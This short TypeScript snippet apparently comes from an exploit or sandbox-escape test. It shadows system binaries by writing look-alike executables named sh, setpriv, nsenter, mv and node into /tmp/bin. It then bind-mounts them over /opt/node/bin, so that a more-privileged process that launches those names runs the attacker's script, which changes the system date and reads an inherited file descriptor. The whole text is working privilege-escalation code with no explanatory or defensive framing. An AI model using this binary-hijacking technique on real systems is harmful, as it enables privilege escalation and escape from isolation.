// What is looked for in PATH is theirs from here on, and whoever starts it may do more than they may.
import { mkdirSync, writeFileSync } from 'node:fs'
import { MS_BIND, mount } from '#provided/syscalls/mount.ts'

mkdirSync('/tmp/bin')
const program = '#!/bin/bash\ndate -s 2001-01-01\nread moved <&3\n'
for (const name of ['sh', 'setpriv', 'nsenter', 'mv', 'node'])
  writeFileSync(`/tmp/bin/${name}`, program, { mode: 0o755 })
mount('/tmp/bin', '/opt/node/bin', null, MS_BIND)
